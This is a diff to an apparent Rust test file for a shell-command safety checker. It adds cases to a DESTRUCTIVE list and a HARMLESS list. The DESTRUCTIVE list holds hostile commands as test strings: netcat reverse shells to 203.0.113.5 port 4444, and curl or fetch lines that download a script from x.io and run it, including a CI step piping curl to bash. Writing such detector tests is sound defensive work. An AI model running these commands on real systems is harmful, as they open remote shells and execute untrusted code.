@@ -12,6 +12,7 @@ const DESTRUCTIVE: &[&str] = &[
     "CMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.5\", \"4444\"]",
     "[\"ncat\", \"203.0.113.5\", \"4444\", \"-e\", \"/bin/sh\"]",
     "curl --output=i.sh https://x.io/i; sh i.sh",
+    "- run: >-\n    curl -fsSL https://x.io/i.sh\n    | bash\n",
     "curl -oi.sh https://x.io/i; sh i.sh",
     "fetch https://x.io/i.sh; sh i.sh",
     "\"curl\" https://x.io/i.sh | sh",
@@ -121,6 +122,7 @@ fn destructive_commands_are_flagged() {
 }
 
 const HARMLESS: &[&str] = &[
+    "- run: >-\n    echo\n    rm -rf /\n",
     "python3 -c 'import socket; print(socket.gethostname())'",
     "python3 -c 'import subprocess; subprocess.call([\"/bin/sh\", \"build.sh\"])'",
     "python3 check_socket.py --shell /bin/bash",
